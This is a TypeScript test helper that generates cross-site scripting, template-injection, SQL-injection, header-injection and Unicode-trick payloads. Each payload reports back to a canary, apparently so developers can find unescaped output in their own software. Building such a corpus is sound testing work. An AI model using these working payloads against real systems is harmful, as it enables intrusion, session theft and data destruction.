/**
 * Texts that run a script wherever they are not treated as text. Each calls `hit(n)` with its own number, or asks
 * for a file at the canary's address.
 */
export function payloads(canary: string): readonly string[] {
  const makers = [...vectors(canary).flatMap(inContexts), ...templates, ...tricks(canary)];
  return makers.map((make, number) => make(`hit(${number})`));
}

type Make = (script: string) => string;

function vectors(canary: string): readonly Make[] {
  return [
    (js) => `<script>${js}</script>`,
    (js) => `<ScRiPt\n>${js}</sCrIpT>`,
    () => `<script src="${canary}/s.js"></script>`,
    (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
    (js) => `<img src=x onerror=${js}>`,
    (js) => `<img src=x oNeRrOr="${js}" x=`,
    () => `<img src="${canary}/i.png">`,
    () => `<img srcset="${canary}/i.png 1x">`,
    (js) => `<svg onload=${js}>`,
    (js) => `<svg/onload=${js}//`,
    (js) => `<svg><script>${js}</script></svg>`,
    (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`,
    (js) => `<svg><a xlink:href="javascript:${js}"><text x=9 y=9>x</text></a></svg>`,
    () => `<svg><use href="${canary}/u.svg#x"></use></svg>`,
    (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
    (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
    (js) => `<iframe src="javascript:parent.${js}"></iframe>`,
    () => `<iframe src="${canary}/f"></iframe>`,
    () => `<object data="${canary}/o"></object>`,
    () => `<embed src="${canary}/e">`,
    (js) => `<body onload=${js}>`,
    (js) => `<body onpageshow=${js}>`,
    (js) => `<details open ontoggle=${js}>x</details>`,
    (js) => `<input autofocus onfocus=${js}>`,
    (js) => `<select autofocus onfocus=${js}></select>`,
    (js) => `<a href="javascript:${js}" autofocus tabindex=0 onfocus=${js}>x</a>`,
    (js) => `<a href="java\tscript:${js}">x</a>`,
    (js) => `<a href="data:text/html,<script>opener.${js}</script>">x</a>`,
    (js) => `<video><source onerror=${js}></video>`,
    (js) => `<audio src=x onerror=${js}>`,
    () => `<video poster="${canary}/p.png"></video>`,
    () => `<link rel=stylesheet href="${canary}/c.css">`,
    () => `<style>@import '${canary}/c.css';</style>`,
    () => `<style>*{background:url(${canary}/b.png)}</style>`,
    () => `<meta http-equiv=refresh content="0;url=${canary}/r">`,
    () => `<base href="${canary}/">`,
    () => `<form action="${canary}/x"><button autofocus>x</button></form>`,
    (js) => `<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart=${js}>x</b>`,
    (js) => `<template><img src=x onerror=${js}></template>`,
    (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
    (js) => `<a onmouseover=${js} style="position:fixed;inset:0">x</a>`,
  ];
}

/** The same, with what closes the place that it might be put in. */
function inContexts(make: Make): readonly Make[] {
  const before = ['', '">', "'>", '--></style></title></textarea></bdi></script>', ']]>', '" autofocus x="'];
  const encoded: readonly ((text: string) => string)[] = [
    (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    (text) => text.replaceAll('<', '&#x3c;').replaceAll('>', '&#62'),
    (text) => encodeURIComponent(text),
    (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
    (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
    (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
    (text) => text.replaceAll('<', '<\u200b'),
    (text) => `\u202e${text}\u2066`,
  ];
  return [
    ...before.map(
      (start): Make =>
        (js) =>
          start + make(js),
    ),
    ...encoded.map(
      (encode): Make =>
        (js) =>
          encode(make(js)),
    ),
  ];
}

/** What template engines, translators and databases might run. */
const templates: readonly Make[] = [
  (js) => `{{constructor.constructor("${js}")()}}`,
  (js) => `\${${js}}`,
  (js) => `#{${js}}`,
  (js) => `<%= ${js} %>`,
  (js) => `{% raw %}<script>${js}</script>{% endraw %}`,
  (js) => `';${js};//`,
  (js) => `";${js};//`,
  (js) => `\`-${js}-\``,
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  () => '$t(common.yes)',
  () => '{{name}} {{count}} {{- name}}',
  () => "'); drop table cases; --",
  () => '%00%0d%0aSet-Cookie: x=y',
];

/** Signs that fool readers or parsers. */
function tricks(canary: string): readonly Make[] {
  return [
    (js) => `\u2028${js}\u2029`,
    (js) => `\u0085<svg onload=${js}>`,
    (js) => `<img\u000bsrc=x\u000conerror=${js}>`,
    (js) => `<\u0073cript>${js}</\u017fcript>`,
    (js) => `<img src=x onerror\u3000=${js}>`,
    () => 'a\u0300\u0301\u0302\u0303\u0304'.repeat(20),
    () => '\u202eRLO\u202d\u2067\u2068\u2069',
    () => '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
    () => `[klik](javascript:hit(0)) ![x](${canary}/m.png)`,
    () => `${canary}/bare-address`,
  ];
}
